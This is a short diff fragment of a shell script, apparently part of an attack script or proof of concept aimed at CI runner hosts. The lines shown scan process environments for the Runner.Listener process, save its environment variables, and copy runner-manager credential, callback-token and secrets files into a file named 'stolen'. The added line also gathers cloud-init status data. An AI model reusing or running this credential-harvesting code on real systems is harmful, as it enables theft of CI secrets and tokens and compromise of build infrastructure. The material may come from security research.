@@ -51,6 +51,7 @@ for comm in /proc/[0-9]*/comm; do
     if [ \"$(cat \"$comm\")\" = Runner.Listener ]; then cat \"${comm%comm}environ\" >\"$HOME/listener\"; fi
 done
 id >\"$HOME/who\"
+cat /run/cloud-init/status.json /run/cloud-init/result.json >\"$HOME/notes\" 2>/dev/null || :
 ! cat /opt/runner-manager/credential /opt/runner-manager/callback-token /opt/runner-manager/secrets.sh 2>/dev/null >\"$HOME/stolen\"
 ";
 
